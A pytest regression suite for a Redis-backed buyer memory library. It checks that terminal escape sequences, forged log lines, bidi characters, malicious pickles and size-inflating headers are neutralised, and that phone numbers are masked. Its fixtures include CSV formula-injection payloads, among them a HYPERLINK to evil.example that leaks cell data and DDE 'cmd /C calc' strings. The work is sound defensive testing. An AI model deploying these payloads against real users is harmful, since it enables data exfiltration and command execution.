"""Hostile text from Redis on terminals, in logs and in CSV; masking; forged header sizes.

Regression tests for a security review: header fields and key names that cleared the
operator's terminal or forged log lines, CSV cells a spreadsheet runs as formulas, phone
numbers written with slashes left unmasked, invalid contact ids (phone numbers) logged as
they are, and inventory totals skewed by sizes a header merely claims. Whatever touches
Redis runs on the private redis-server.
"""

from __future__ import annotations

import csv
import io
import logging
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import orjson
import pandas as pd
import pytest
import redis
import zstandard

from memory_core import SyncBuyerConversationMemory
from memory_core.admin import delete_buyer, seed_scenarios
from memory_core.breakdown import scan_overview
from memory_core.cli import main
from memory_core.config import MemoryConfig
from memory_core.errors import InvalidContactId
from memory_core.inventory import (
    MAX_PLAUSIBLE_RATIO,
    STATUS_CORRUPT,
    STATUS_OK,
    problem_records,
    scan_summaries,
    summarize_inventory,
)
from memory_core.record import MAGIC, SEPARATOR
from memory_core.safetext import csv_bytes, printable, printable_json
from memory_core.state import mask_pii, shown_contact_id, validate_contact_id

PROJECT_ROOT = Path(__file__).resolve().parents[1]
PREFIX = "buyer_conversation_memory"
#: Characters that must never reach a terminal or a log line raw (newlines are checked
#: separately: output has its own).
DANGEROUS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e"
                       "\u2060-\u2069\ufeff]")
CLEAR_AND_TITLE = "\x1b[2J\x1b]0;owned\x07"
FORGED_LINE = "\nERROR memory_core.store: forged"


def key(contact_id: str | bytes) -> bytes:
    name = contact_id if isinstance(contact_id, bytes) else contact_id.encode()
    return f"{PREFIX}:".encode() + name


def planted_record(state: dict[str, Any], *, version: bytes = b"1.0",
                   temperature: bytes = b"hot", persona: bytes = b"investor",
                   stage: bytes = b"discovery", codec: bytes = b"none",
                   claimed_original: int | None = None) -> bytes:
    """A record whose header fields are exactly the bytes given (no writer cleaned them)."""
    json_bytes = orjson.dumps(state)
    payload = (json_bytes if codec == b"none"
               else zstandard.ZstdCompressor(level=3).compress(json_bytes))
    original = len(json_bytes) if claimed_original is None else claimed_original
    fields = [version, codec, b"0", str(original).encode(), str(len(payload)).encode(),
              temperature, persona, b"0", stage, b"1", b"0", b"0", b"1"]
    return MAGIC + SEPARATOR.join(fields) + b"\n" + payload


def assert_inert(text: str) -> None:
    """Nothing in ``text`` drives a terminal, reorders text, or starts a forged line."""
    assert not DANGEROUS.search(text), repr(DANGEROUS.search(text))
    assert "\nERROR memory_core.store: forged" not in text


def memory_logs(caplog: pytest.LogCaptureFixture,
                level: int = logging.INFO) -> list[logging.LogRecord]:
    return [r for r in caplog.records if r.name.startswith("memory_core") and r.levelno >= level]


# printable() and printable_json() --------------------------------------------------------

@pytest.mark.parametrize(("raw", "shown"), [
    ("\x1b[2J", "\\x1b[2J"),
    ("a\nb\rc\td\x00", "a\\x0ab\\x0dc\\x09d\\x00"),
    ("\x7f\x85\x9b", "\\x7f\\x85\\x9b"),
    ("txt\u202eexe.", "txt\\u202eexe."),
    ("\u2066\u2067\u2068\u2069\u200e\u200f\u061c", "\\u2066\\u2067\\u2068\\u2069\\u200e"
                                                     "\\u200f\\u061c"),
    ("line\u2028sep\u2029", "line\\u2028sep\\u2029"),
    ("zero\u200bwidth\ufeff", "zero\\u200bwidth\\ufeff"),
    (b"bad\xff".decode("utf-8", "surrogateescape"), "bad\\xff"),
])
def test_printable_escapes_what_drives_a_terminal(raw: str, shown: str) -> None:
    assert printable(raw) == shown
    assert_inert(printable(raw))


def test_printable_keeps_ordinary_text_and_cuts_long_text() -> None:
    text = "José Ñandú 北京 😀 a\\b \"q\" 'q'"
    assert printable(text) == text
    assert printable("x" * 50, 10) == "x" * 10 + "…"
    assert printable("\x1b" * 50, 3) == "\\x1b" * 3 + "…"
    assert printable(42) == "42"  # type: ignore[arg-type]


@pytest.mark.timeout(10)
def test_printable_is_linear() -> None:
    assert len(printable("\x1b\u202e" * 1_000_000)) == 10_000_000


def test_printable_json_stays_json_with_the_same_values() -> None:
    value = {"t": CLEAR_AND_TITLE + "\x85\x9b\u202e\u2028\x7f", "n": [1, -2.5, None]}
    text = printable_json(orjson.dumps(value, option=orjson.OPT_INDENT_2).decode())
    assert_inert(text)
    assert orjson.loads(text) == value


# the CLI and the logs, on a real Redis ----------------------------------------------------

HOSTILE_IDS = ["clear" + CLEAR_AND_TITLE, "forge" + FORGED_LINE, "bidi\u202egpj.exe",
               "sep\u2028arator", "c1\x9b31m"]


def plant_hostile_keyspace(raw: redis.Redis) -> None:
    raw.set(key("terminal"), planted_record(
        {"buyer_temperature": CLEAR_AND_TITLE}, version=b"1.0\x1b[31m",
        temperature=CLEAR_AND_TITLE.encode(), persona="inv\u2028estor\u202e".encode(),
        stage=b"stage\x07\x1b[1A\x1b[2K\rERROR forged"))
    for contact_id in HOSTILE_IDS:
        raw.set(key(contact_id), b"not a record" + CLEAR_AND_TITLE.encode())
    raw.set(key(b"undecodable\xff\x1b[2J"), b"junk")


def test_inventory_output_cannot_drive_the_terminal(
        real_redis_url: str, real_raw: redis.Redis, capsys: pytest.CaptureFixture[str]) -> None:
    plant_hostile_keyspace(real_raw)
    assert main(["--redis-url", real_redis_url, "inventory"]) == 0
    captured = capsys.readouterr()
    assert_inert(captured.out + captured.err)
    # the temperature and persona rows, escaped, with their counts
    assert re.search(r"temperature +\\x1b\[2J\\x1b\]0;owned\\x07 +1 ", captured.out)
    assert re.search(r"persona +inv\\u2028estor\\u202e +1 ", captured.out)
    assert "forge\\x0aERROR memory_core.st" in captured.out  # cut to the column, escaped
    assert "undecodable\\xff\\x1b[2J" in captured.out
    assert captured.out.count("\n") == len(captured.out.splitlines())  # one line per line

    assert main(["--redis-url", real_redis_url, "inventory", "--json"]) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    report = orjson.loads(out)
    assert report["by_temperature"] == {CLEAR_AND_TITLE: 1}
    assert {p["contact_id"] for p in report["problems"]} >= {
        "forge" + FORGED_LINE, "bidi\u202egpj.exe"}


def test_show_clear_and_migrate_output_cannot_drive_the_terminal(
        real_redis_url: str, real_raw: redis.Redis, capsys: pytest.CaptureFixture[str]) -> None:
    real_raw.set(key("shown"), planted_record(
        {"buyer_temperature": CLEAR_AND_TITLE, "note": "\x9b2J\u202e\u2029"},
        temperature=CLEAR_AND_TITLE.encode(), codec=b"zstd"))
    for argv in (["show", "shown"], ["show", "shown", "--json"], ["show", "x\x1b[2Jy"],
                 ["show", "absent"], ["clear", "absent", "--yes"],
                 ["clear", "x" + FORGED_LINE, "--yes"]):
        main(["--redis-url", real_redis_url, *argv])
        captured = capsys.readouterr()
        assert_inert(captured.out + captured.err)
    real_raw.set(key("legacy-from-a-hostile-module"), stack_global_pickle(
        "os" + FORGED_LINE + CLEAR_AND_TITLE, "system\u202e"))
    assert main(["--redis-url", real_redis_url, "migrate-legacy"]) == 0
    captured = capsys.readouterr()
    assert_inert(captured.out + captured.err)
    assert "1 failed" in captured.out and "refused global os\\x0aERROR" in captured.out


def stack_global_pickle(module: str, name: str) -> bytes:
    """A legacy pickle loading ``module.name`` by STACK_GLOBAL: any text, newlines too."""
    def text(value: str) -> bytes:
        data = value.encode()
        return b"\x8c" + bytes([len(data)]) + data

    return b"\x80\x04" + text(module) + text(name) + b"\x93)R."


def test_a_legacy_module_name_cannot_forge_a_log_line(
        real_redis_url: str, real_raw: redis.Redis, caplog: pytest.LogCaptureFixture) -> None:
    real_raw.set(key("pickled"), stack_global_pickle("os" + FORGED_LINE, "sys\x1b[2Jtem"))
    caplog.set_level(logging.INFO, logger="memory_core")
    with SyncBuyerConversationMemory.from_url(real_redis_url) as memory:
        assert memory.load_state("pickled") is None
    (record,) = memory_logs(caplog, logging.WARNING)
    message = record.getMessage()
    assert "\n" not in message and "\x1b" not in message
    assert "os\\x0aERROR memory_core.store: forged" in message


def test_admin_log_lines_escape_actors_and_ids(
        real_redis_url: str, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="memory_core")
    with SyncBuyerConversationMemory.from_url(real_redis_url) as memory:
        assert memory.save_state("real-1", {"buyer_temperature": "hot"})
        delete_buyer(memory, "real-1", actor="ops" + FORGED_LINE + CLEAR_AND_TITLE)
        memory.save_state("real-2", {})
        from memory_core.admin import Scenario
        seed_scenarios(memory, [Scenario("real-2", {})], overwrite_real=True,
                       actor="qa\u202e" + FORGED_LINE)
    logs = memory_logs(caplog)
    assert len(logs) >= 2
    for record in logs:
        assert_inert(record.getMessage())
        assert "\n" not in record.getMessage()


def test_log_lines_of_the_store_escape_what_redis_said(
        store_url: str, raw: redis.Redis, caplog: pytest.LogCaptureFixture) -> None:
    raw.set(key("corrupt"), planted_record({"a": 1}, codec=b"zstd" + CLEAR_AND_TITLE.encode()))
    caplog.set_level(logging.INFO, logger="memory_core")
    with SyncBuyerConversationMemory.from_url(store_url) as memory:
        assert memory.load_state("corrupt") is None
        assert memory.save_state("bad" + FORGED_LINE + CLEAR_AND_TITLE, {}) is False
    logs = memory_logs(caplog, logging.WARNING)
    assert len(logs) == 2
    for record in logs:
        assert "\n" not in record.getMessage()
        assert_inert(record.getMessage())


# CSV formula injection ----------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "\n=1+1", "=1+1",
            "\uff1d1+1", "\uff0bcmd", "\uff201"]


def read_csv_cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(payload: str) -> None:
    frame = pd.DataFrame({
        "contact_id": [payload, "plain"],
        "persona": pd.Categorical([payload, "investor"]),
        "stored_bytes": [-2, 100],
        "compression_ratio": [-1.5, 2.0],
        "last_interaction": pd.to_datetime(["2024-05-01", None], utc=True),
    })
    rows = read_csv_cells(csv_bytes(frame))
    assert rows[0]["contact_id"] == "'" + payload
    assert rows[0]["persona"] == "'" + payload
    assert rows[1]["contact_id"] == "plain" and rows[1]["persona"] == "investor"
    assert rows[0]["stored_bytes"] == "-2" and rows[0]["compression_ratio"] == "-1.5"
    assert rows[1]["last_interaction"] == ""


@pytest.mark.parametrize("cell", ["abc\r=1+1", "abc\n=1+1", "abc\r\n@SUM(A1)"])
def test_a_line_break_inside_a_csv_cell_starts_no_row(cell: str) -> None:
    rows = read_csv_cells(csv_bytes(pd.DataFrame({"contact_id": [cell], "n": [1]})))
    assert [(row["contact_id"], row["n"]) for row in rows] == [(cell, "1")]
    assert f'"{cell}"'.encode() in csv_bytes(pd.DataFrame({"contact_id": [cell]}))


def test_csv_bytes_writes_undecodable_key_bytes_as_escapes() -> None:
    contact_id = b"=odd\xff".decode("utf-8", "surrogateescape")
    frame = pd.DataFrame({"contact_id": pd.Series([contact_id], dtype=object)})
    rows = read_csv_cells(csv_bytes(frame))
    assert rows[0]["contact_id"] == "'=odd\\xff"  # as the dashboard shows the id


def test_csv_cells_cannot_drive_a_terminal() -> None:
    frame = pd.DataFrame({"persona": pd.Categorical([CLEAR_AND_TITLE, "\u202eexe.txt"])})
    data = csv_bytes(frame)
    assert_inert(data.decode("utf-8").replace("\r\n", "\n"))  # CRLF ends each row
    assert [row["persona"] for row in read_csv_cells(data)] == [
        printable(CLEAR_AND_TITLE), "\\u202eexe.txt"]


def test_the_overview_csv_of_a_hostile_keyspace_holds_no_formula(
        real_redis_url: str, real_raw: redis.Redis) -> None:
    for number, payload in enumerate(FORMULAS):
        # an id with whitespace is no buyer (no bot can ask for it): the labels carry those
        contact_id = "".join("_" if c.isspace() else c for c in payload[:20])
        real_raw.set(key(f"{contact_id}-{number}"), planted_record(
            {}, temperature=payload[:30].replace("\n", " ").replace("\r", " ").encode(),
            persona=b"-2+3", stage=b"@SUM(A1)"))
    from dashboard.overview_model import BuyerQuery, Filters, build_overview, list_buyers

    with SyncBuyerConversationMemory.from_url(real_redis_url) as memory:
        model = build_overview(scan_overview(memory), Filters(), memory.config)
        export = list_buyers(memory, model, BuyerQuery()).export()
    assert len(export) == len(FORMULAS)
    rows = read_csv_cells(csv_bytes(export))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("Contact id", "Temperature", "Persona", "Journey stage", "Status",
                       "Codec"):
            assert row[column][:1] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", row
        assert int(row["Stored bytes"]) > 0  # numbers stay numbers
    source = (PROJECT_ROOT / "app_pages" / "overview.py").read_text()
    assert "csv_bytes(" in source and ".to_csv(" not in source  # every download through it


def test_the_bot_does_not_import_pandas() -> None:
    code = ("import sys, memory_core, memory_core.safetext, memory_core.store; "
            "sys.exit('pandas' in sys.modules)")
    assert subprocess.run([sys.executable, "-c", code], cwd=PROJECT_ROOT,
                          check=False).returncode == 0


# phone masking in transcripts --------------------------------------------------------------

def masked_content(phone: str, content: str) -> str:
    masked = mask_pii({"buyer_phone": phone,
                       "conversation_history": [{"role": "user", "content": content}]})
    return str(masked["conversation_history"][0]["content"])


@pytest.mark.parametrize("written", [
    "555/123/4567", "(555)/123/4567", "555 / 123 / 4567", "1.555.123.4567",
    "+1 (555) 123 - 4567", "5551234567", "(555)123-4567", "555.123.4567", "555-123-4567",
    "+1/555/123/4567", "555 123 4567", "123/4567", "123 / 45 67", "(555) 123.45.67",
    "5 5 5 1 2 3 4 5 6 7",
])
def test_phone_repeats_are_masked_whatever_the_separators(written: str) -> None:
    assert masked_content("+1-555-123-4567", f"call {written} today") == "call ***-4567 today"


@pytest.mark.parametrize("written", ["123/4567", "123 / 4567", "(123) 4567", "123.45.67"])
def test_seven_digit_phones_are_masked_whatever_the_separators(written: str) -> None:
    assert masked_content("123-4567", f"ring {written}!") == "ring ***-4567!"


@pytest.mark.parametrize("content", [
    "ref 91234567 and 12345678", "on 2024/05/01", "order 555/123/45678", "555/123/456",
])
def test_other_numbers_are_left_alone(content: str) -> None:
    assert masked_content("+1-555-123-4567", content) == content


@pytest.mark.timeout(10)
@pytest.mark.parametrize("content", [
    "5 / " * 250_000, "(" * 1_000_000, "5" + " ./()-" * 150_000, "+1 (555" * 120_000,
    "555/123/456 " * 80_000,
])
def test_phone_masking_of_a_hostile_transcript_is_linear(content: str) -> None:
    started = time.perf_counter()
    masked_content("+1-555-123-4567", content)
    assert time.perf_counter() - started < 5


# invalid contact ids in logs ----------------------------------------------------------------

PHONE_IDS = ["+1 555 123 4567", "(555) 123-4567", "555/123/4567\n", "elena garcia@example.com",
             "x" * 300 + " +1 555 123 4567", " elena.garcia@example.com\x1b[2J"]


@pytest.mark.parametrize("contact_id", PHONE_IDS)
def test_an_invalid_contact_id_is_logged_masked(
        store_url: str, contact_id: str, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="memory_core")
    with SyncBuyerConversationMemory.from_url(store_url) as memory:
        assert memory.save_state(contact_id, {}) is False
        assert memory.load_state(contact_id) is None
        assert memory.clear_state(contact_id) is False
    logs = memory_logs(caplog)
    assert len(logs) == 3
    for record in logs:
        message = record.getMessage()
        assert_inert(message)
        for secret in ("555 123", "123-4567", "123/4567", "garcia@", "555"):
            assert secret not in message, message


@pytest.mark.parametrize("contact_id", PHONE_IDS)
def test_the_invalid_contact_id_error_shows_no_phone_or_email(contact_id: str) -> None:
    with pytest.raises(InvalidContactId) as caught:
        validate_contact_id(contact_id)
    message = str(caught.value)
    assert "123 4567" not in message and "garcia@" not in message and "555" not in message
    assert_inert(message)


@pytest.mark.parametrize(("contact_id", "shown"), [
    ("+1 555 123 4567", "***-4567"),
    ("call me 555/123/4567", "call me ***-4567"),
    ("elena garcia@example.com", "elena g***@example.com"),
    ("a\nb\x1b", "a\\x0ab\\x1b"),
    ("ab " * 100, "ab ab ab ab ab ab ab ab ab ab ab ab ab…"),
    ("x" * 150 + " +1 555 123 45", "…"),  # a number cut short is dropped, not shown in part
    (12345678901, "<int>"),
])
def test_shown_contact_id(contact_id: object, shown: str) -> None:
    assert shown_contact_id(contact_id) == shown


# sizes a header claims ----------------------------------------------------------------------

def test_the_inventory_flags_sizes_a_header_cannot_truthfully_claim(
        real_redis_url: str, real_raw: redis.Redis, capsys: pytest.CaptureFixture[str]) -> None:
    config = MemoryConfig()
    state = {"conversation_history": [{"role": "user", "content": "hello " * 40}]}
    json_bytes = len(orjson.dumps(state))
    real_raw.set(key("huge-claim"), planted_record(state, codec=b"zstd",
                                                   claimed_original=300_000_000))
    payload = len(zstandard.ZstdCompressor(level=3).compress(orjson.dumps(state)))
    real_raw.set(key("ratio-claim"), planted_record(
        state, codec=b"zstd", claimed_original=payload * MAX_PLAUSIBLE_RATIO + 1))
    real_raw.set(key("none-claim"), planted_record(state, codec=b"none",
                                                   claimed_original=json_bytes * 50))
    real_raw.set(key("honest-zstd"), planted_record(state, codec=b"zstd"))
    real_raw.set(key("honest-none"), planted_record(state, codec=b"none"))
    with SyncBuyerConversationMemory.from_url(real_redis_url, config) as memory:
        frame = scan_summaries(memory).set_index("contact_id")
        for honest in ("honest-zstd", "honest-none"):
            assert frame.loc[honest, "status"] == STATUS_OK
            assert memory.load_state(honest) is not None
        for forged, reason in (("huge-claim", "max_state_bytes"),
                               ("ratio-claim", f"{MAX_PLAUSIBLE_RATIO}x"),
                               ("none-claim", "codec none")):
            assert frame.loc[forged, "status"] == STATUS_CORRUPT, forged
            assert reason in frame.loc[forged, "problem"], frame.loc[forged, "problem"]
            assert frame.loc[forged, "original_bytes"] == frame.loc[forged, "stored_bytes"]
        report = summarize_inventory(frame.reset_index())
    assert report["buyers"] == 2 and report["corrupt"] == 3
    assert report["original_bytes"] == 2 * json_bytes  # the claims feed no total
    assert report["compression_ratio"] is not None and report["compression_ratio"] < 10
    problems = problem_records(frame.reset_index())
    assert set(problems["contact_id"]) == {"huge-claim", "ratio-claim", "none-claim"}
    assert main(["--redis-url", real_redis_url, "inventory"]) == 0
    out = capsys.readouterr().out
    assert re.search(r"corrupt, foreign or unreadable +3 ", out)
    assert "huge-claim" in out and "300,000,000" in out


def test_the_header_size_bound_follows_max_state_bytes(
        real_redis_url: str, real_raw: redis.Redis) -> None:
    state = {"note": "x" * 5000}
    real_raw.set(key("big"), planted_record(state, codec=b"none"))
    with SyncBuyerConversationMemory.from_url(real_redis_url,
                                              MemoryConfig(max_state_bytes=4096)) as small:
        assert scan_summaries(small).loc[0, "status"] == STATUS_CORRUPT
        assert small.load_state("big") is None  # the bot refuses it too
    with SyncBuyerConversationMemory.from_url(real_redis_url) as default:
        assert scan_summaries(default).loc[0, "status"] == STATUS_OK
